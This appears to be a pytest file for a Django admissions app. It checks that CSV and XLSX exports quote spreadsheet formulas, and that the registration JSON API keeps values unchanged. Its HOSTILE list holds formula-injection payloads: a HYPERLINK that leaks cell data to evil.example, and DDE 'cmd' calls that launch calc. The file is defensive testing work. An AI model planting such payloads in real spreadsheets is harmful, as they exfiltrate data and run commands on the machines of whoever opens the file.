"""Every spreadsheet export writes hostile text as text, never as a live formula; the JSON of
the registration API keeps it as typed."""

import csv
import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from django.utils.safestring import SafeString
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from ecandidat.accounts.enums import StaffRole
from ecandidat.applications.models import Application
from ecandidat.dossier.models import Address, PersonalInformation
from ecandidat.exports import registration
from ecandidat.exports.writers import neutralise, neutralise_row
from ecandidat.jobs import services as jobs
from ecandidat.jobs.models import BulkJob
from tests.decisions.test_decisions import decision_types, received  # noqa: F401
from tests.exports.test_registration import confirmed  # noqa: F401
from tests.factories import staff_with_role

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_quotes_formulas_once(value):
    assert neutralise(value) == "'" + value
    assert neutralise(neutralise(value)) == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("LEBRUN", "LEBRUN"),
        ("Jean-Marc", "Jean-Marc"),  # a dash inside is no formula
        ("+33235146000", "+33235146000"),  # a phone number as the dossier stores it
        ("+33 2 35", "'+33 2 35"),
        (None, ""),
        (4, 4),  # counts stay numbers in XLSX
        (-2, -2),
    ],
)
def test_neutralise_leaves_plain_values(value, cell):
    assert neutralise(value) == cell


def test_neutralise_row_is_neutralise_on_each_cell():
    row = [*HOSTILE, "LEBRUN", "", "+33235146000", "+33 2 35", None, 4, -2, 1.5, True]
    row += [gettext_lazy("Yes"), date(2000, 5, 17), SafeString("=1")]
    assert neutralise_row(row) == [neutralise(value) for value in row]


@pytest.fixture
def hostile_application(program, campaign):
    (application,) = received(program, campaign)
    return application


def _name(application, value):
    candidate = application.candidate
    candidate.last_name = value
    candidate.save(update_fields=["last_name"])


COLUMNS = "?columns=dossier_number&columns=last_name"


def as_read_from_xlsx(text):
    # Whether a carriage return comes back as itself or as a line feed depends on the XML
    # library openpyxl finds (lxml escapes it, the standard library's writer does not):
    # compared with line feeds on both sides; the leading quote is what counts.
    return text.replace("\r", "\n")


@pytest.mark.parametrize("value", HOSTILE)
def test_application_exports_in_the_request(client, hostile_application, program, value):
    _name(hostile_application, value)
    client.force_login(staff_with_role(StaffRole.CENTRE_MANAGER, centre=program.centre))
    response = client.get(reverse("staff:applications_export", args=["csv"]) + COLUMNS)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";"))[1][1] == "'" + value
    response = client.get(reverse("staff:applications_export", args=["xlsx"]) + COLUMNS)
    rows = list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.values)
    assert as_read_from_xlsx(rows[1][1]) == as_read_from_xlsx("'" + value)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_application_exports_by_the_worker(
    client, hostile_application, program, monkeypatch, fmt, django_capture_on_commit_callbacks
):
    _name(hostile_application, HOSTILE[0])
    monkeypatch.setattr(jobs, "EXPORT_SYNC_LIMIT", 0)
    client.force_login(staff_with_role(StaffRole.CENTRE_MANAGER, centre=program.centre))
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("staff:applications_export", args=[fmt]) + COLUMNS)
    job = BulkJob.objects.get(action=f"export_{fmt}")
    content = b"".join(client.get(reverse("staff:export_file", args=[job.pk])).streaming_content)
    if fmt == "csv":
        cells = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))[1]
    else:
        cells = list(load_workbook(io.BytesIO(content)).active.values)[1]
    assert cells[1] == "'" + HOSTILE[0]


@pytest.mark.parametrize("value", HOSTILE)
def test_statistics_xlsx(client, hostile_application, program, value):
    # A program label typed by a centre manager, exported by the central office.
    program.label_fr = value
    program.save(update_fields=["label_fr"])
    client.force_login(staff_with_role(StaffRole.CENTRAL_OFFICE))
    response = client.get(reverse("staff:applications_dashboard") + "?by=program&format=xlsx")
    rows = list(load_workbook(io.BytesIO(response.content)).active.values)
    assert as_read_from_xlsx(rows[1][0]) == as_read_from_xlsx("'" + value)
    assert rows[1][-2] == 1  # the total is still a number


@pytest.fixture
def hostile_dossier(confirmed):  # noqa: F811 (the fixture imported above)
    application, manager = confirmed
    candidate = application.candidate
    candidate.last_name = "=HYPERLINK(1)"
    candidate.first_name = "@SUM(1)"
    candidate.save(update_fields=["last_name", "first_name"])
    PersonalInformation.objects.filter(user=candidate).update(
        phone="+33235146000", mobile="-2+3", other_first_name="+cmd|x"
    )
    Address.objects.filter(user=candidate).update(line1="=1+1", line2="\t@x")
    return application, manager


def _pegase(client, manager):
    client.force_login(manager)
    response = client.post(reverse("staff:registrations"), {"only_new": "on"})
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return {name.split("-")[0]: archive.read(name) for name in archive.namelist()}


def _rows(content: bytes):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8")), delimiter=";"))


def test_pegase_files_quote_formulas_and_keep_their_dialect(client, hostile_dossier):
    _application, manager = hostile_dossier
    files = _pegase(client, manager)
    candidate = _rows(files["candidat"])[0]
    assert candidate["nom_famille"] == "'=HYPERLINK(1)"
    assert candidate["prenom"] == "'@SUM(1)"
    assert candidate["prenom2"] == "'+CMD|X"  # upper-cased as eCandidat stores names
    assert candidate["numero_telephone1"] == "+33235146000"
    assert candidate["numero_telephone2"] == "'-2+3"
    assert candidate["adresse_ligne3_voie"] == "'=1+1"
    # Cleaned of its tab first (the export's own rule), then quoted.
    assert candidate["adresse_ligne1_etage"] == "'@x"
    single = _rows(files["inscription"])[0]
    assert single["nom_naissance"] == "'=HYPERLINK(1)" and single["numero_telephone2"] == "'-2+3"
    assert single["code_voeu1"] == "PEG-LP-ASSR"  # untouched values stay as they were
    for content in files.values():
        # Pégase's dialect: UTF-8 without BOM, ";", never a quote character, LF line ends.
        assert not content.startswith(b"\xef\xbb\xbf")
        assert b'"' not in content and b"\r" not in content and content.endswith(b"\n")
        lines = content.decode().split("\n")[:-1]
        assert len({line.count(";") for line in lines}) == 1


def test_the_api_json_keeps_the_values_as_typed(client, hostile_dossier):
    application, manager = hostile_dossier
    client.force_login(manager)
    (row,) = client.get(reverse("staff:registrations_api")).json()["registrations"]
    assert row["nom_famille"] == "=HYPERLINK(1)" and row["numero_telephone2"] == "-2+3"
    selection = registration.select(Application.objects.filter(pk=application.pk))
    assert registration.as_json(selection)["registrations"][0]["prenom"] == "@SUM(1)"
